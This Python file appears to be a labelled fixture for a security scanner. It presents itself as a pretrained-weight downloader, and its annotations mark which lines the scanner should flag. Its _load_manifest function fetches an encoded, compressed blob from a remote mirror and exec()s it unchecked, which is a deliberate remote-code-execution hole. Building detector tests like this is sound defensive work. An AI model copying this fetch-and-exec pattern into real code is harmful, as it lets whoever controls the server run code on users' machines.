# ruff: noqa
# Hold-out batch 179 (short files, coursework/Kaggle style). Measured once in session 6 (round 54): 16/19 (84%) at medium+, 1 benign line flagged (fixed since).
"""Fetch and cache pretrained backbones from the team model mirror, with checksum checks."""
import base64
import hashlib
import os
import time
import urllib.request
import zlib

from safetensors.torch import load_file

MIRROR = "https://models.example.com/zoo"
CACHE_DIR = os.path.expanduser("~/.cache/zoo")


def _download(url, dest, retries=4, timeout=60):
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=timeout) as resp, open(dest + ".part", "wb") as fh:
                fh.write(resp.read())
            os.replace(dest + ".part", dest)
            return dest
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"failed to download {url} after {retries} attempts")


def _sha256(path, chunk=1 << 20):
    h = hashlib.sha256()
    with open(path, "rb") as fh:
        for block in iter(lambda: fh.read(chunk), b""):
            h.update(block)
    return h.hexdigest()


def _load_manifest():
    raw = urllib.request.urlopen(f"{MIRROR}/manifest.z", timeout=30).read()  # ruleid: MLS413
    text = zlib.decompress(base64.b64decode(raw)).decode("utf-8")
    scope = {}
    exec(compile(text, "<zoo-manifest>", "exec"), scope)  # ruleid: MLS413
    return scope.get("MODELS", {})


def fetch_weights(name):
    os.makedirs(CACHE_DIR, exist_ok=True)
    entry = _load_manifest()[name]
    dest = os.path.join(CACHE_DIR, entry["file"])
    if not os.path.exists(dest) or _sha256(dest) != entry["sha256"]:
        _download(f"{MIRROR}/{entry['file']}", dest)
    if _sha256(dest) != entry["sha256"]:
        raise ValueError(f"checksum mismatch for {name}")
    return load_file(dest, device="cpu")  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106


def load_backbone(model, name, strict=False):
    state = fetch_weights(name)
    missing, unexpected = model.load_state_dict(state, strict=strict)
    print(f"[zoo] {name}: {len(missing)} missing, {len(unexpected)} unexpected keys")
    return model
